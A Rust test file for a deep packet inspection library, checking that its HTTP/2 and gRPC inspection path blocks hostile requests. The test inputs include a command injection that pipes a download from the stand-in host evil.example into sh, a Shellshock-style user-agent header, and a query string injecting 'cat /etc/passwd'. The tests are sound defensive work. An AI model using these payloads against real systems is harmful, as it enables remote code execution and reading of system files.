//! The phases the HTTP/2 path uses: parsed head fields, gRPC messages judged one at a time,
//! and an over-limit body recorded without being held.

use picket_dpi::{Decision, InspectConfig, OverLimit, RequestInspection};
use picket_signatures::Engine;

fn engine() -> &'static Engine {
    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    ENGINE.get_or_init(|| Engine::builtin().expect("built-in pack"))
}

/// A protobuf message with one length-delimited field 1 holding `s`, framed as gRPC.
fn grpc_message(s: &[u8]) -> Vec<u8> {
    let mut pb = vec![0x0a];
    let mut n = s.len();
    loop {
        let b = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            pb.push(b);
            break;
        }
        pb.push(b | 0x80);
    }
    pb.extend_from_slice(s);
    let mut m = vec![0];
    m.extend_from_slice(&(pb.len() as u32).to_be_bytes());
    m.extend_from_slice(&pb);
    m
}

fn grpc_head<'e>(cfg: &'e InspectConfig) -> RequestInspection<'e> {
    let mut insp = RequestInspection::new(engine(), cfg);
    insp.head_fields(
        b"POST",
        b"/greet.Greeter/SayHello",
        b"svc.default:50051",
        [
            (&b"content-type"[..], &b"application/grpc"[..]),
            (&b"te"[..], &b"trailers"[..]),
        ],
    );
    insp
}

#[test]
fn grpc_messages_are_judged_one_at_a_time() {
    let cfg = InspectConfig::default();
    let mut insp = grpc_head(&cfg);
    assert_eq!(insp.decision(), Decision::Allow);
    insp.grpc_message(&grpc_message(b"hello, how are you today?"));
    assert_eq!(insp.decision(), Decision::Allow);
    insp.grpc_message(&grpc_message(
        b"x; /bin/sh -c 'curl http://evil.example/x | sh'",
    ));
    assert_eq!(insp.decision(), Decision::Block);
    let verdict = insp.finish();
    let hit = verdict.primary().expect("a finding");
    assert_eq!(hit.location, "grpc:message");
}

#[test]
fn a_truncated_grpc_message_is_named() {
    let cfg = InspectConfig::default();
    let mut insp = grpc_head(&cfg);
    let mut m = grpc_message(b"hello");
    m.truncate(m.len() - 2);
    insp.grpc_message(&m);
    let verdict = insp.finish();
    let ids: Vec<&str> = verdict
        .hits
        .iter()
        .map(|h| engine().signatures()[h.signature as usize].id.as_str())
        .collect();
    assert!(!ids.is_empty(), "a truncated message must be reported");
}

#[test]
fn head_fields_see_headers_and_query() {
    let cfg = InspectConfig::default();
    let mut insp = RequestInspection::new(engine(), &cfg);
    insp.head_fields(
        b"GET",
        b"/index?q=1",
        b"example.org",
        [(&b"user-agent"[..], &b"() { :; }; /bin/bash -c id"[..])],
    );
    assert_eq!(insp.decision(), Decision::Block);
    let mut insp = RequestInspection::new(engine(), &cfg);
    insp.head_fields(
        b"GET",
        b"/search?cmd=%3Bcat%20%2Fetc%2Fpasswd",
        b"example.org",
        [(&b"user-agent"[..], &b"curl/8.0"[..])],
    );
    assert_eq!(insp.decision(), Decision::Block);
}

#[test]
fn over_limit_now_follows_the_fail_mode() {
    let mut cfg = InspectConfig {
        over_limit: OverLimit::FailOpen,
        ..InspectConfig::default()
    };
    let mut insp = grpc_head(&cfg);
    insp.over_limit_now();
    assert_eq!(insp.decision(), Decision::Alert);
    cfg.over_limit = OverLimit::FailClosed;
    let mut insp = grpc_head(&cfg);
    insp.over_limit_now();
    assert_eq!(insp.decision(), Decision::Block);
}
